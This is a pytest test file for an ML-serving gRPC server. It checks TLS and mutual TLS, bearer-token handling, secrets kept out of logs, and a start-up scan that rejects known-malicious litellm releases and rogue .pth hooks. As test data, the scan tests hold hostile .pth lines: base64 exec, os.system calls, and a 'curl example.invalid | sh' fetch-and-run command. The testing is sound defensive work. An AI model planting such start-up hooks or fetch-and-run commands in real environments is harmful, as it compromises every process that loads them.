"""Who may call and what may run: TLS and mutual TLS, the bearer token, secrets kept out of logs
and error messages, and the start-up refusal of a poisoned environment."""

from __future__ import annotations

import datetime as dt
import importlib.metadata
import ipaddress
import logging
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from grpc_health.v1 import health_pb2
from pydantic import SecretStr, ValidationError

from ml_serving import __main__ as entry
from ml_serving import errors
from ml_serving._proto.mlserving.v1 import inference_service_pb2 as pb
from ml_serving._proto.mlserving.v1 import inference_service_pb2_grpc as pb_grpc
from ml_serving.api import security, server
from ml_serving.observability.logs import JsonFormatter
from tests.support import REPO
from tests.support.fake_openai import FakeOpenAI
from tests.support.requests import generate_request, generate_stream_request, score_request
from tests.support.servers import (
    FAKE_KEY,
    StartServer,
    health_stub,
    make_settings,
    write_llm_config,
)

TOKEN = "tok-3f9a1c7e5b2d4068a1b2c3d4e5f60718"
WRONG_TOKEN = "tok-wrong-0000000000000000000000000"

# --- certificates, made per test session ------------------------------------------------------


@dataclass(frozen=True)
class Pem:
    """A certificate and its private key, PEM-encoded."""

    cert: bytes
    key: bytes


def _key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _key_pem(key: ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )


def _builder(subject: str, issuer: str, public_key: Any) -> x509.CertificateBuilder:
    now = dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
        .issuer_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, issuer)]))
        .public_key(public_key)
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(days=1))
    )


@dataclass(frozen=True)
class Authority:
    """A test CA that issues server and client certificates."""

    name: str
    key: ec.EllipticCurvePrivateKey
    cert: x509.Certificate

    @classmethod
    def create(cls, name: str) -> Authority:
        key = _key()
        cert = (
            _builder(name, name, key.public_key())
            .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
            .add_extension(
                x509.KeyUsage(
                    digital_signature=True,
                    content_commitment=False,
                    key_encipherment=False,
                    data_encipherment=False,
                    key_agreement=False,
                    key_cert_sign=True,
                    crl_sign=True,
                    encipher_only=False,
                    decipher_only=False,
                ),
                critical=True,
            )
            .sign(key, hashes.SHA256())
        )
        return cls(name, key, cert)

    @property
    def pem(self) -> bytes:
        return self.cert.public_bytes(serialization.Encoding.PEM)

    def issue(self, subject: str, usage: x509.ObjectIdentifier) -> Pem:
        key = _key()
        cert = (
            _builder(subject, self.name, key.public_key())
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(
                x509.SubjectAlternativeName(
                    [x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]
                ),
                critical=False,
            )
            .add_extension(x509.ExtendedKeyUsage([usage]), critical=False)
            .sign(self.key, hashes.SHA256())
        )
        return Pem(cert.public_bytes(serialization.Encoding.PEM), _key_pem(key))


@dataclass(frozen=True)
class Pki:
    ca: Authority
    server: Pem
    client: Pem
    rogue_client: Pem
    """Signed by another CA: a mutual-TLS server must refuse it."""
    dir: Path


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> Pki:
    ca, rogue = Authority.create("ml-serving test CA"), Authority.create("rogue CA")
    out = tmp_path_factory.mktemp("pki")
    pki = Pki(
        ca,
        ca.issue("ml-serving", ExtendedKeyUsageOID.SERVER_AUTH),
        ca.issue("recommender", ExtendedKeyUsageOID.CLIENT_AUTH),
        rogue.issue("recommender", ExtendedKeyUsageOID.CLIENT_AUTH),
        out,
    )
    (out / "ca.pem").write_bytes(ca.pem)
    (out / "server.pem").write_bytes(pki.server.cert)
    (out / "server.key").write_bytes(pki.server.key)
    return pki


def _tls(pki: Pki, **extra: Any) -> dict[str, Any]:
    return {
        "tls_cert_file": pki.dir / "server.pem",
        "tls_key_file": pki.dir / "server.key",
        **extra,
    }


def _secure(port: int, pki: Pki, client: Pem | None = None) -> grpc.aio.Channel:
    credentials = grpc.ssl_channel_credentials(
        root_certificates=pki.ca.pem,
        private_key=client.key if client else None,
        certificate_chain=client.cert if client else None,
    )
    return grpc.aio.secure_channel(f"127.0.0.1:{port}", credentials)


async def _score_code(channel: grpc.aio.Channel) -> str:
    try:
        await pb_grpc.InferenceServiceStub(channel).Score(score_request(), timeout=5)
    except grpc.aio.AioRpcError as error:
        return error.code().name
    return "OK"


# --- TLS --------------------------------------------------------------------------------------


async def test_tls_serves_and_refuses_plaintext(start_server: StartServer, pki: Pki) -> None:
    app = await start_server(**_tls(pki))
    async with _secure(app.port, pki) as chan:
        assert await _score_code(chan) == "OK"
        reply = await health_stub(chan).Check(health_pb2.HealthCheckRequest(service=""))
        assert reply.status == health_pb2.HealthCheckResponse.SERVING
    async with grpc.aio.insecure_channel(f"127.0.0.1:{app.port}") as plain:
        assert await _score_code(plain) == "UNAVAILABLE"


async def test_mutual_tls_needs_a_client_certificate_from_the_ca(
    start_server: StartServer, pki: Pki
) -> None:
    app = await start_server(**_tls(pki, tls_client_ca_file=pki.dir / "ca.pem"))
    async with _secure(app.port, pki) as no_cert:
        assert await _score_code(no_cert) == "UNAVAILABLE"
    async with _secure(app.port, pki, pki.rogue_client) as rogue:
        assert await _score_code(rogue) == "UNAVAILABLE"
    async with _secure(app.port, pki, pki.client) as good:
        assert await _score_code(good) == "OK"


@pytest.mark.parametrize(
    "settings",
    [
        {"tls_cert_file": "server.pem"},
        {"tls_key_file": "server.key"},
        {"tls_client_ca_file": "ca.pem"},
    ],
)
def test_half_a_tls_configuration_is_refused(settings: dict[str, str]) -> None:
    with pytest.raises(ValidationError, match="ML_SERVING_TLS_"):
        make_settings(**settings)


def _run_main(env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("ML_SERVING_")}
    clean.update(ML_SERVING_PORT="0", ML_SERVING_METRICS_PORT="0", ML_SERVING_HOST="127.0.0.1")
    clean.update(env)
    return subprocess.run(
        [sys.executable, "-m", "ml_serving"],
        env=clean,
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_server_refuses_to_start_with_only_a_certificate(pki: Pki) -> None:
    done = _run_main({"ML_SERVING_TLS_CERT_FILE": str(pki.dir / "server.pem")})
    assert done.returncode == 2
    assert "must be set together" in done.stderr


def test_the_server_refuses_to_start_with_a_bad_certificate(tmp_path: Path) -> None:
    (tmp_path / "cert.pem").write_text("not a certificate")
    (tmp_path / "key.pem").write_text("not a key")
    done = _run_main(
        {
            "ML_SERVING_TLS_CERT_FILE": str(tmp_path / "cert.pem"),
            "ML_SERVING_TLS_KEY_FILE": str(tmp_path / "key.pem"),
            "ML_SERVING_LOG_JSON": "false",
        }
    )
    assert done.returncode == 2
    assert "cannot serve TLS" in done.stderr


# --- bearer token -----------------------------------------------------------------------------


def test_check_bearer_accepts_only_the_exact_token() -> None:
    token = SecretStr(TOKEN)
    security.check_bearer(None, None)  # auth off
    security.check_bearer((("authorization", f"Bearer {TOKEN}"),), token)
    security.check_bearer((("authorization", f"bearer  {TOKEN} "),), token)  # scheme any case
    security.check_bearer((("x-request-id", "1"), ("authorization", f"Bearer {TOKEN}")), token)
    for metadata in [
        None,
        (),
        (("authorization", TOKEN),),
        (("authorization", f"Basic {TOKEN}"),),
        (("authorization", f"Bearer {TOKEN[:-1]}"),),
        (("authorization", f"Bearer {TOKEN}x"),),
        (("authorization", "Bearer "),),
        (("authorization", f"Bearer {TOKEN}"), ("authorization", f"Bearer {TOKEN}")),
        (("authorization", "Bearer t\u00f6k\udcff"),),  # not ASCII, not even valid UTF-8
        (("authorization", b"Bearer \xff\xfe"),),
    ]:
        with pytest.raises(errors.Unauthenticated) as info:
            security.check_bearer(metadata, token)
        assert TOKEN not in str(info.value)


def test_weak_or_malformed_tokens_are_refused_without_echoing_them() -> None:
    for bad in ["short", "has a space in it....", "tab\there-is-long-enough", "\u00e9" * 20]:
        with pytest.raises(ValidationError) as info:
            make_settings(auth_token=bad)
        assert bad not in str(info.value)
    assert TOKEN not in repr(make_settings(auth_token=TOKEN))


def _auth(token: str = TOKEN, scheme: str = "Bearer") -> tuple[tuple[str, str], ...]:
    return (("authorization", f"{scheme} {token}"),)


async def _all_four(stub: pb_grpc.InferenceServiceAsyncStub, metadata: Any) -> list[str]:
    """The status of each InferenceService RPC with this metadata."""
    codes = []
    calls: list[Any] = [
        lambda: stub.Score(score_request(), metadata=metadata, timeout=10),
        lambda: stub.Generate(generate_request(), metadata=metadata, timeout=10),
        lambda: _read_all(stub.GenerateStream(generate_stream_request(), metadata=metadata)),
        lambda: stub.ListPromptVersions(
            pb.ListPromptVersionsRequest(), metadata=metadata, timeout=10
        ),
    ]
    for call in calls:
        try:
            await call()
            codes.append("OK")
        except grpc.aio.AioRpcError as error:
            codes.append(error.code().name)
            assert TOKEN not in (error.details() or "")
            assert WRONG_TOKEN not in (error.details() or "")
    return codes


async def _read_all(call: Any) -> None:
    async for _ in call:
        pass


async def test_bearer_token_guards_inference_but_not_probes(start_server: StartServer) -> None:
    app = await start_server(auth_token=TOKEN)
    async with grpc.aio.insecure_channel(f"127.0.0.1:{app.port}") as chan:
        stub = pb_grpc.InferenceServiceStub(chan)
        unauthenticated = ["UNAUTHENTICATED"] * 4
        assert await _all_four(stub, None) == unauthenticated
        assert await _all_four(stub, _auth(WRONG_TOKEN)) == unauthenticated
        assert await _all_four(stub, _auth(scheme="Basic")) == unauthenticated
        assert await _all_four(stub, (("authorization", TOKEN),)) == unauthenticated
        assert await _all_four(stub, _auth() + _auth()) == unauthenticated
        assert await _all_four(stub, _auth(TOKEN[:-1] + "0")) == unauthenticated
        assert app.gate.shed == 0 and app.gate.in_flight == 0  # refused before admission

        assert await _all_four(stub, _auth()) == ["OK"] * 4
        assert await _all_four(stub, _auth(scheme="bearer")) == ["OK"] * 4

        # Probes and tooling stay open: health (overall and per service) and reflection.
        health = health_stub(chan)
        for name in ("", server.SERVICE_NAME):
            reply = await health.Check(health_pb2.HealthCheckRequest(service=name))
            assert reply.status == health_pb2.HealthCheckResponse.SERVING


async def test_an_unauthenticated_call_gets_the_request_id_back(start_server: StartServer) -> None:
    app = await start_server(auth_token=TOKEN)
    async with grpc.aio.insecure_channel(f"127.0.0.1:{app.port}") as chan:
        call = pb_grpc.InferenceServiceStub(chan).Score(
            score_request(), metadata=(("x-request-id", "auth-1"),), timeout=5
        )
        with pytest.raises(grpc.aio.AioRpcError) as info:
            await call
    assert info.value.code() == grpc.StatusCode.UNAUTHENTICATED
    assert ("x-request-id", "auth-1") in tuple(info.value.trailing_metadata() or ())


# --- secrets stay out of logs and error messages ----------------------------------------------

_NOISY = ("LiteLLM", "LiteLLM Router", "LiteLLM Proxy", "httpx", "httpcore", "openai", "aiohttp")


async def test_keys_and_tokens_never_reach_logs_or_error_messages(
    start_server: StartServer,
    upstream: FakeOpenAI,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    aliases = ["ok", "status-401", "status-500", "status-429", "status-400", "slow"]
    config = write_llm_config(tmp_path / "llm.yaml", upstream, aliases)
    upstream.delay_s, upstream.ttft_s, upstream.token_delay_s = 2.0, 0.0, 0.0
    caplog.set_level(logging.DEBUG)
    failures: list[grpc.aio.AioRpcError] = []
    for alias in aliases:
        app = await start_server(
            llm_config=config, llm_model=alias, llm_fallback=False, auth_token=TOKEN
        )
        for name in _NOISY:  # after start: the gateway lowers LiteLLM's loggers to WARNING
            caplog.set_level(logging.DEBUG, logger=name)
        async with grpc.aio.insecure_channel(f"127.0.0.1:{app.port}") as chan:
            stub = pb_grpc.InferenceServiceStub(chan)
            for metadata in (_auth(), _auth(WRONG_TOKEN)):
                try:
                    await stub.Generate(generate_request(), metadata=metadata, timeout=1)
                except grpc.aio.AioRpcError as error:
                    failures.append(error)
                try:
                    await _read_all(
                        stub.GenerateStream(generate_stream_request(), metadata=metadata, timeout=1)
                    )
                except grpc.aio.AioRpcError as error:
                    failures.append(error)
    codes = {f.code().name for f in failures}
    assert {"UNAUTHENTICATED", "FAILED_PRECONDITION", "UNAVAILABLE"} <= codes
    assert {"RESOURCE_EXHAUSTED", "DEADLINE_EXCEEDED"} <= codes
    assert upstream.seen_auth[-1] == f"Bearer {FAKE_KEY}"  # the key was really in use

    formatter = JsonFormatter()
    lines = [formatter.format(record) for record in caplog.records]
    assert len(lines) > 50 and any(r.levelno == logging.DEBUG for r in caplog.records)
    for secret in (FAKE_KEY, TOKEN, WRONG_TOKEN):
        assert not [line for line in lines if secret in line], f"{secret[:6]}... in the logs"
        for failure in failures:
            assert secret not in (failure.details() or "")
            assert secret not in repr(failure.trailing_metadata())
            assert secret not in (failure.debug_error_string() or "")


# --- supply chain: refuse a poisoned environment at start -------------------------------------


@pytest.mark.parametrize("version", sorted(security.KNOWN_BAD_LITELLM))
def test_known_malicious_litellm_releases_are_refused(version: str) -> None:
    problems = security.check_litellm_release(lambda name: version)
    assert len(problems) == 1 and f"litellm {version} is a known malicious release" in problems[0]


@pytest.mark.parametrize("version", ["1.82.6", "1.82.9", "1.83.0", "1.82.70"])
def test_other_litellm_releases_pass(version: str) -> None:
    assert security.check_litellm_release(lambda name: version) == []


def test_no_litellm_installed_is_not_a_supply_chain_problem() -> None:
    def missing(name: str) -> str:
        raise importlib.metadata.PackageNotFoundError(name)

    assert security.check_litellm_release(missing) == []


DISTUTILS_PTH = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
EDITABLE_PTH = (
    "import __editable___ml_serving_0_1_0_finder; __editable___ml_serving_0_1_0_finder.install()\n"
)


def test_pth_scan_allows_setuptools_and_editable_hooks_and_path_lines(tmp_path: Path) -> None:
    (tmp_path / "distutils-precedence.pth").write_text(DISTUTILS_PTH)
    (tmp_path / "__editable__.ml_serving-0.1.0.pth").write_text(EDITABLE_PTH)
    (tmp_path / "paths.pth").write_text(
        "/opt/extra/lib\n# a comment\n  import indented_is_a_path\n"
    )
    assert security.scan_pth_hooks([tmp_path, tmp_path / "missing"]) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("litellm_init.pth", "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"),
        ("evil.pth", "/some/path\nimport\tsubprocess; subprocess.run(['true'])\n"),
        # a known name with different code in it is not the known hook
        ("distutils-precedence.pth", "import os; os.system('curl example.invalid | sh')\n"),
        ("__editable__.x-1.pth", "import __editable___x_finder; __import__('os').system('id')\n"),
        # the editable hook's code under a name no installer uses
        ("zz-late.pth", EDITABLE_PTH),
    ],
)
def test_pth_scan_refuses_other_start_up_hooks(tmp_path: Path, name: str, content: str) -> None:
    (tmp_path / name).write_text(content)
    problems = security.scan_pth_hooks([tmp_path])
    assert len(problems) == 1
    assert name in problems[0] and "unexpected start-up hook" in problems[0]


def test_this_environment_passes_the_start_up_checks() -> None:
    """The allowlist fits what `make install` creates: the real venv has no problem."""
    assert security.supply_chain_problems() == []


def test_main_exits_2_with_the_reasons_in_a_poisoned_environment(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "litellm_init.pth").write_text("import os; os.system('true')\n")
    monkeypatch.setattr(security, "site_dirs", lambda: [tmp_path])
    monkeypatch.setattr(importlib.metadata, "version", lambda name: "1.82.8")
    assert entry.main() == 2
    err = capsys.readouterr().err
    assert "refusing to start" in err
    assert "litellm 1.82.8 is a known malicious release" in err
    assert "litellm_init.pth:1: unexpected start-up hook" in err
